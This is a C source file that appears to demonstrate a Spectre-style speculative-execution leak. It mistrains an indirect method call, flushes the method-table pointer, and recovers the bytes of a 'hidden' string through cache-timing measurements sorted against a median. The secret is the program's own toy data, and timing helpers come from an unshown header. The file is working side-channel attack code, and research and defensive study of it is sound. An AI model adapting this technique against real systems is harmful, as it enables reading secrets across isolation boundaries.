/* Objects with a table of methods that was flushed, and bookkeeping in a sorted linked list of allocated nodes. */
#include "receiver.h"

struct object;
struct methods { int (*read)(struct object *, size_t); };
struct object { const struct methods *methods; uint8_t apart[120]; const char *open, *closed; };
struct node { struct node *next; unsigned time, value; };

static int read_any(struct object *self, size_t at) { return self->closed[at]; }
static int read_open(struct object *self, size_t at) { return self->open[at]; }
static const struct methods any = {read_any}, open_only = {read_open};

__attribute__((noinline)) static void use(struct object *object, size_t at) {
    touch(line((uint8_t)object->methods->read(object, at)));
}

static struct node *merge(struct node *a, struct node *b) {
    struct node head, *tail = &head;
    while (a && b) {
        struct node **least = a->time <= b->time ? &a : &b;
        tail = tail->next = *least;
        *least = (*least)->next;
    }
    tail->next = a ? a : b;
    return head.next;
}

static struct node *sorted(struct node *list) {
    if (!list || !list->next) return list;
    struct node *slow = list, *fast = list->next;
    while (fast && fast->next) slow = slow->next, fast = fast->next->next;
    struct node *half = slow->next;
    slow->next = NULL;
    return merge(sorted(list), sorted(half));
}

/* The line that is far faster than the median, if it is the only one besides `known`. */
static void weigh(int known) {
    struct node *list = NULL;
    for (unsigned i = 0; i < 256; i++) {
        struct node *made = malloc(sizeof *made);
        made->value = (i * 167 + 13) & 255;
        made->time = access_time(line(made->value));
        made->next = list;
        list = made;
    }
    list = sorted(list);
    struct node *middle = list;
    unsigned hits = 0, only = 0;
    for (int i = 0; i < 128; i++) middle = middle->next;
    for (struct node *each = list; each; each = each->next)
        if (each->time + 60 < middle->time && (int)each->value != known) hits++, only = each->value;
    if (hits == 1) scores[only]++;
    while (list) {
        struct node *rest = list->next;
        free(list);
        list = rest;
    }
}

int main(void) {
    static const char shown[] = "xx", hidden[] = "v2";
    struct object *trained = malloc(4096), *victim = malloc(4096);
    calibrate(10);
    *trained = (struct object){.methods = &any, .open = shown, .closed = shown};
    *victim = (struct object){.methods = &open_only, .open = shown, .closed = hidden};
    for (size_t at = 0; at < sizeof hidden - 1; at++) {
        start();
        int found = NOTHING;
        for (int round = 0; round < 12 && found == NOTHING; round++) {
            forget();
            for (int call = 0; call < 40; call++) {
                struct object *object = call == 39 ? victim : trained;
                _mm_clflush(&object->methods);
                _mm_mfence();
                use(object, at);
            }
            weigh(shown[at]);
            found = best(3);
        }
        putchar(found);
    }
    putchar('\n');
    return 0;
}
